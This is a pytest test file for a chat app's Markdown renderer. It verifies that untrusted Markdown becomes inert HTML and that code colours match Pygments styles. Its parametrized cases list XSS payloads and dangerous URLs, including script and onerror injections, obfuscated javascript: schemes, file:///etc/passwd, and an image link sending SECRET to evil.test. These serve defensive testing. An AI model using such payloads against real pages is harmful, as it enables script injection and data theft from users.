"""Markdown of strangers becomes HTML that can do nothing."""

import re
from pathlib import Path

import pytest
from django.conf import settings
from pygments.styles import get_style_by_name
from pygments.token import STANDARD_TYPES

from chat.markdown.html import render

TAG = re.compile(r"<(/?)([a-z0-9]+)([^>]*)>")


def test_it_renders_what_models_write() -> None:
    html = render("# T\n\n1. **a**\n2. `b`\n\n| x | y |\n|---|---|\n| 1 | 2 |\n\n```py\n1 < 2\n```\n\n~~no~~")
    for piece in (
        "<h1>T</h1>",
        "<strong>a</strong>",
        "<code>b</code>",
        "<td>1</td>",
        '<span class="o">&lt;</span>',
        "<s>no</s>",
    ):
        assert piece in html
    assert '<div class="wide"><table>' in html


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<iframe src=https://evil.test></iframe>",
        '<div class="tool" style="position:fixed">card</div>',
        "<style>@import url(https://evil.test)</style>",
        "<link rel=prefetch href=https://evil.test>",
        "<a href=javascript:alert(1)>x</a>",
        "</template></article><form action=https://evil.test>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
    ],
)
def test_html_in_it_is_text(text: str) -> None:
    assert {tag for _, tag, _ in TAG.findall(render(text))} <= {"p"}


@pytest.mark.parametrize(
    "address",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "&#106;avascript:alert(1)",
        "java%0ascript:alert(1)",
        "vbscript:x",
        "data:text/html,<script>",
        "//evil.test/x",
        "/\\evil.test",
        "\\\\evil.test",
        "/logout/",
        "?next=x",
        "file:///etc/passwd",
        "blob:https://evil.test/1",
    ],
)
def test_an_address_without_a_good_scheme_is_no_link(address: str) -> None:
    for text in (f"[x]({address})", f"[x](<{address}>)", f"<{address}>", f"[x]\n\n[x]: {address}"):
        assert "href" not in render(text), text


@pytest.mark.parametrize("text", ["![i](https://evil.test/?q=SECRET)", "![i][r]\n\n[r]: https://evil.test/i.png"])
def test_no_image_is_ever_loaded(text: str) -> None:
    assert "<img" not in render(text)


def test_a_link_says_where_it_leads_and_takes_nothing_along() -> None:
    html = render("[docs](https://evil.test/docs)")
    assert 'rel="noopener noreferrer nofollow"' in html
    assert 'target="_blank"' in html
    assert '<span class="host"> (evil.test)</span>' in html
    assert "host" not in render("<https://docs.test/page>").replace("docs.test", "")


def test_a_class_comes_from_us_alone() -> None:
    assert 'class="message' not in render('```message tool\nx\n```\n\n`<b class="tool">`')


@pytest.mark.parametrize("language", ["", "nothing-known", '"><img>', "python"])
def test_code_is_coloured_by_known_languages_and_always_escaped(language: str) -> None:
    html = render(f"```{language}\nx = '<b>' < 1\n```")
    assert "&lt;b&gt;" in html
    assert ("<span class=" in html) == (language == "python")
    assert "<b>" not in html and "<img" not in html


def test_very_long_code_keeps_its_plain_colour() -> None:
    assert "<span" in render("```py\n" + "x = 1\n" * 3000 + "```")
    assert "<span" not in render("```py\n" + "x = 1\n" * 4000 + "```")


def test_the_colours_of_code_are_those_of_the_styles(request: pytest.FixtureRequest) -> None:
    path = Path(settings.BASE_DIR) / "static" / "chat" / "code.css"
    if request.config.getoption("--write-golden"):
        path.write_text(colours())
    assert path.read_text() == colours()


def colours() -> str:
    """The style sheet of code: xcode where it is light, monokai where it is dark."""
    light, dark = get_style_by_name("xcode"), get_style_by_name("monokai")
    names: dict[tuple[str, str], list[str]] = {}
    for token, name in STANDARD_TYPES.items():
        pair = light.style_for_token(token)["color"], dark.style_for_token(token)["color"]
        is_plain = pair[0] in (None, "000000") and pair[1] == "f8f8f2"
        if name and not is_plain and name not in ("err", "esc"):
            names.setdefault((pair[0] or "1d1d1b", pair[1] or "ecece6"), []).append(name)
    rules = [
        f".text :is({', '.join(f'.{each}' for each in found)}) {{ color: light-dark(#{day}, #{night}); }}"
        for (day, night), found in names.items()
    ]
    return (
        "/* Colours of code: Pygments' xcode and monokai. Written by tests/chat/test_markdown.py. */\n\n"
        + "\n".join([*rules, ""])
    )
